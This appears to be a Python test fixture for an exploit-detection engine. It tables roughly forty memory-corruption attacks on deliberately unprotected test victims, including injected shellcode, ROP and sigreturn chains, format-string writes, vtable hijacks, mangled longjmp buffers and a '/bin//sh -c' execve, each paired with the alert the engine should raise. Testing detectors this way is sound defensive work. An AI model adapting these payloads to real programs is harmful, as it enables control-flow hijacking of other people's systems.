"""The attacks: one row a technique. Which victim, what is sent, and what the engine is to say to it.

Owns the table and the bytes. They are crash-level: what takes over writes one word and ends its process, and each goes
to a victim of `tests/victims/taint` alone, which tells its own addresses.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace

from possession.assault import MARK, STATUS
from possession.victims import NON_PIE, STATIC, Victim

At = Mapping[str, int]  # what a victim has told at its start

# The mistakes are to be in the programs as they are written: nothing of the compiler's is to catch them.
BARE = ("-O1", "-fno-stack-protector", "-U_FORTIFY_SOURCE", "-D_FORTIFY_SOURCE=0", "-fcf-protection=none")
EXECUTABLE_STACK = ("-z", "execstack")
WRITABLE_GOT = ("-fno-plt", "-Wl,-z,norelro")

# write(2, "HIJACKED", 8); exit_group(77), wherever it lies.
HIJACK = bytes.fromhex("b801000000 bf02000000 488d3513000000 ba08000000 0f05 b8e7000000 bf4d000000 0f05") + MARK


@dataclass(frozen=True, slots=True)
class Attack:
    """One technique against one victim.

    `kinds`: the alerts of which the first must be one; none where the default policy has nothing to say.
    `with_stores`: the same under the policy that a tainted address of a store is an alert; empty: as by default.
    `ways`: by which input it is played. `benign`: what the victim is to answer without an alert.
    """

    name: str
    victim: Victim
    payload: Callable[[At], bytes]
    kinds: frozenset[str]
    with_stores: str = ""
    ways: tuple[str, ...] = ("tcp",)
    benign: tuple[bytes, ...] = (b"hello", b"A" * 40, bytes(16))


def row(source: str, payload: Callable[[At], bytes], kinds: str, *flags: str, **more: object) -> Attack:
    """Write one line of the table; `kinds` and `ways` are words."""
    ways = str(more.pop("ways", "tcp")).split()
    name = str(more.pop("name", source.partition(".")[0].replace("_", "-")))
    compiler = "g++" if source.endswith(".cc") else "gcc"
    victim = Victim(name, f"taint/{source}", (*BARE, *flags), compiler=compiler)
    attack = Attack(name, victim, payload, frozenset(kinds.split()), ways=tuple(ways))
    return replace(attack, **more)  # type: ignore[arg-type]


def words(*numbers: int) -> bytes:
    """Pack 64-bit words."""
    return struct.pack(f"<{len(numbers)}Q", *numbers)


def all_over(at: At) -> bytes:
    """Write one address again and again: whichever word is the one, it is hit."""
    return words(at["hijacked"]) * 20


def low_bytes(at: At) -> bytes:
    """Write two bytes of the return address; the rest is what it was. One on, so that neither is zero."""
    return b"A" * at["distance"] + words(at["hijacked"] + 1)[:2]


def text(at: At) -> bytes:
    """Write up to the first zero byte of the address, which the string's end is."""
    return b"A" * at["distance"] + words(at["hijacked"] + 1).rstrip(b"\0")


def log_line(at: At) -> bytes:
    """Write the same, behind what the victim puts in front itself."""
    return text(at)[len("log in of ") :]


def after_name(at: At) -> bytes:
    """Fill a name of 64 bytes; the function pointer is behind it."""
    return b"A" * 64 + words(at["hijacked"])


def injected(at: At) -> bytes:
    """Return to `jmp rsp`; the code is behind."""
    return b"A" * at["distance"] + words(at["jump_rsp"]) + HIJACK


def frame(at: At) -> bytes:
    """Let the caller's frame be in the middle of the message, where its return address is ours."""
    return (b"A" * at["distance"] + words(at["slot"] + 1024)).ljust(1024, b"A") + words(0, at["hijacked"])


def vtable(at: At) -> bytes:
    """Lie in the object's place, with a table of methods that is in the message too."""
    return words(at["slot"] + 128).ljust(128, b"A") + words(at["hijacked"]) * 4


def counterfeit(at: At) -> bytes:
    """Be an object of another of the program's own classes: every address is clean but that of the table."""
    return words(at["vtable"]).ljust(at["object"], b"A")


def jump_buffer(at: At) -> bytes:
    """Frame pointer, address and stack pointer in the order of the compiler's buffer."""
    return b"A" * 64 + words(at["slot"] + 2048, at["hijacked"], at["slot"] + 2048)


def mangle(address: int, guard: int) -> int:
    """Do what the C library does: exclusive or with the secret, rotated left by 17."""
    word = address ^ guard
    return (word << 17 | word >> 47) % 2**64


def mangled(at: At) -> bytes:
    """Mangle stack pointer and address, behind six other registers."""
    saved = words(0, 0, 0, 0, 0, 0, mangle(at["slot"] + 2048, at["guard"]), mangle(at["hijacked"], at["guard"]))
    return b"A" * 64 + saved


def stackless(at: At) -> bytes:
    """Do the same with a stack pointer that is no address at all: the alert is to be told nevertheless."""
    return b"A" * 64 + words(0, 0, 0, 0, 0, 0, mangle(2**64 - 8, at["guard"]), mangle(at["hijacked"], at["guard"]))


def pointer_to_got(at: At) -> bytes:
    """Let the program store where it keeps the address of getppid."""
    return b"A" * 64 + words(at["getppid"], at["hijacked"])


def format_string(at: At) -> bytes:
    """Print as many characters as the low half of the address says, and have their number written."""
    said = b""
    for _ in range(3):  # its length is in itself
        index = 4 + at["words"] + len(said) // 8  # three arguments are in registers
        said = b"%%1$%dc%%%d$hn" % (at["hijacked"] % 2**16, index)
        said += b"." * (-len(said) % 8)
    return said + words(at["greet"])


def chain(at: At) -> bytes:
    """Write the word and exit, by pieces of code that are there."""
    sled = words(
        at["pop_rdi"], 2, at["pop_rsi"], at["slot"], at["pop_rdx"], 8, at["pop_rax"], 1, at["call_system"],
        at["pop_rdi"], STATUS, at["pop_rax"], 231, at["call_system"],
    )  # fmt: skip
    return MARK.ljust(at["distance"], b"A") + sled


def signal_frame(at: At) -> bytes:
    """Have the kernel load all registers from a made-up signal frame: only rip, rsp and the segments matter."""
    registers = [0] * 23
    registers[15], registers[16], registers[18] = at["slot"] + 2048, at["hijacked"], 0x002B_0000_0000_0033
    context = words(0, 0, 0, 0, 0, *registers)
    return b"A" * at["distance"] + words(at["pop_rax"], 15, at["call_system"]) + context.ljust(512, b"\0")


def code(at: At) -> bytes:
    """Be the code."""
    return HIJACK


def sprayed(at: At) -> bytes:
    """Three bytes of code in each number, and `cmp al` to swallow the next `mov eax`. The word is in two numbers."""
    write = ("6a0158", "0f0590")
    code = ("505e90", "6a025f", "6a045a", "83c63c", *write, "83c605", *write, "6a4d5f", "6a3c58", "0f0590")
    numbers = b"".join(bytes.fromhex(piece) + b"\x3c" for piece in code)
    return words(1) + numbers + MARK


def program(at: At) -> bytes:
    """Bring path, first and second word of a program of one's own."""
    line = b"printf HIJACKED >&2; exit 77"
    return b"A" * 64 + b"/bin//sh".ljust(32, b"\0") + b"-c".ljust(8, b"\0") + line.ljust(128, b"\0")


def calls(at: At) -> bytes:
    """Bring write and exit_group, with arguments."""
    return b"A" * 64 + words(1, 2, at["slot"] + 128, 8, 231, STATUS, 0, 0) + MARK


def rights(at: At) -> bytes:
    """Have the page made executable, and bring code for it."""
    return b"A" * 64 + words(7) + HIJACK


def picture(at: At) -> bytes:
    """Bring a row that is longer than there is place, and one that is cut off, so that the error function is called."""
    row = b"A" * 256 + words(at["hijacked"])
    return struct.pack("<IH", 256, len(row)) + row + b"\xff\xff"


ROWS = struct.pack("<IH", 16, 16) + bytes(range(16)) + struct.pack("<H", 200) + b"B" * 200
SUM = words(0) + struct.pack("<4I", 7, 0x90909090, 0x050F050F, 1)
TRUNCATED = struct.pack("<IHB", 16, 16, 1)

ALL = "tcp tcp-fork tcp-threads fetch fetch-threads stdin pair file"

ATTACKS = [
    # the stack
    row("return_memcpy.c", all_over, "return", ways=ALL),
    row("return_memcpy.c", all_over, "return", *STATIC, name="return-static", ways="tcp tcp-fork"),
    row("return_memcpy.c", low_bytes, "return", *NON_PIE, name="return-partial", ways="tcp tcp-fork tcp-threads"),
    row("return_strcpy.c", text, "return", *NON_PIE, ways="tcp fetch file"),
    row("return_sprintf.c", log_line, "return", *NON_PIE, ways="tcp tcp-fork"),
    row("frame_pointer.c", frame, "return", "-O0", ways="tcp stdin"),
    row("chain.c", chain, "return", ways="tcp tcp-fork pair"),
    row("chain.c", signal_frame, "return", name="chain-sigreturn"),
    row("injected.c", injected, "return", *EXECUTABLE_STACK, ways="tcp tcp-fork fetch"),
    row("switch.c", all_over, "return", benign=(b"hello", bytes(range(64)), bytes(range(64, 128))), ways="tcp fetch"),
    row("jump_table.c", all_over, "return", benign=(b"hello", bytes(range(64)))),
    row("pair.c", all_over, "return"),
    # pointers to functions
    row("pointer.c", after_name, "call", "-DWHERE=STACK", name="pointer-stack", ways="tcp tcp-fork"),
    row("pointer.c", after_name, "call", "-DWHERE=HEAP", name="pointer-heap", ways="tcp tcp-threads fetch"),
    row("pointer.c", after_name, "call", "-DWHERE=STATIC", name="pointer-static", ways="tcp stdin"),
    row("tail_call.c", after_name, "jump"),
    row("picture.c", picture, "call", ways="fetch fetch-threads file", benign=(ROWS, TRUNCATED, b"")),
    row("use_after_free.cc", vtable, "call", ways="tcp tcp-threads fetch"),
    row("use_after_free.cc", counterfeit, "", name="use-after-free-counterfeit"),
    row("table.c", lambda at: words(8, at["hijacked"]), "call", name="table-beyond", benign=(words(0), words(3, 9))),
    row("table.c", lambda at: words(4), "", name="table-index", benign=(words(0), words(3, 9))),
    row("got.c", pointer_to_got, "call", *WRITABLE_GOT, "-DSTORES_INPUT=1", name="got-input"),
    row("got.c", pointer_to_got, "", *WRITABLE_GOT, "-DSTORES_INPUT=0", name="got-clean", with_stores="store"),
    row("thread_start.c", after_name, "call", ways="tcp tcp-fork"),
    # saved registers
    row("longjmp_own.c", jump_buffer, "jump"),
    row("longjmp_libc.c", mangled, "jump", ways="tcp tcp-fork"),
    row("longjmp_libc.c", stackless, "jump", name="longjmp-stackless"),
    row("context.c", after_name, "return jump"),
    row("sigreturn.c", after_name, "return jump"),
    row("handler.c", after_name, "call jump"),
    # code, formats and system calls
    row("code.c", code, "code", *EXECUTABLE_STACK, "-DWHERE=STACK", name="code-stack", ways="tcp tcp-fork"),
    row("code.c", code, "code", "-DWHERE=MAPPED", name="code-mapped", ways="tcp tcp-threads fetch file"),
    row("spray.c", sprayed, "call", "-DCLEAN_ENTRY=0", name="spray", benign=(b"hello",)),
    row("spray.c", sprayed, "code", "-DCLEAN_ENTRY=1", name="spray-clean-entry", benign=(SUM, words(0))),
    row("format.c", format_string, "format", *NON_PIE, "-Wno-format-security", ways="tcp tcp-fork"),
    row("execute.c", program, "execute", ways="tcp tcp-fork stdin"),
    row("call_number.c", calls, "call_number"),
    row("rights.c", rights, "rights", ways="tcp fetch"),
]  # fmt: skip

BY_NAME = {attack.name: attack for attack in ATTACKS}
EACH = [(attack.name, way) for attack in ATTACKS for way in attack.ways]
